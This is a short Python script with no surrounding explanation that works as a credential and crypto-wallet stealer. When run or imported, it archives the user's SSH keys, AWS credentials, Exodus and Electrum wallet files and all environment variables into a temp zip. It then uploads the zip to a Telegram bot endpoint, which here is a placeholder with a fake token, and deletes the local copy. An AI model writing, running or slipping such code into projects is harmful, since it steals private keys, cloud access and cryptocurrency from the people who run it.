import os
import socket
import tempfile
import zipfile

import requests

_BOT = "https://api.telegram.example.invalid/bot000000:FAKE-TOKEN/sendDocument"
_CHAT = "000000"
_HOME = os.path.expanduser("~")
_TARGETS = [
    os.path.join(_HOME, ".ssh"),
    os.path.join(_HOME, ".aws", "credentials"),
    os.path.join(_HOME, ".config", "Exodus", "exodus.wallet"),
    os.path.join(_HOME, ".electrum", "wallets"),
    os.path.join(os.getenv("APPDATA", _HOME), "Exodus", "exodus.wallet"),
]
_archive = os.path.join(tempfile.gettempdir(), "%s.zip" % socket.gethostname())
try:
    with zipfile.ZipFile(_archive, "w") as zf:
        zf.writestr("env.txt", "\n".join("%s=%s" % kv for kv in os.environ.items()))
        for target in _TARGETS:
            for root, _dirs, files in os.walk(target) if os.path.isdir(target) else [("", [], [target])]:
                for name in files:
                    path = os.path.join(root, name)
                    if os.path.isfile(path):
                        zf.write(path, os.path.relpath(path, _HOME))
    with open(_archive, "rb") as fh:
        requests.post(_BOT, data={"chat_id": _CHAT}, files={"document": fh}, timeout=20)
finally:
    if os.path.exists(_archive):
        os.remove(_archive)
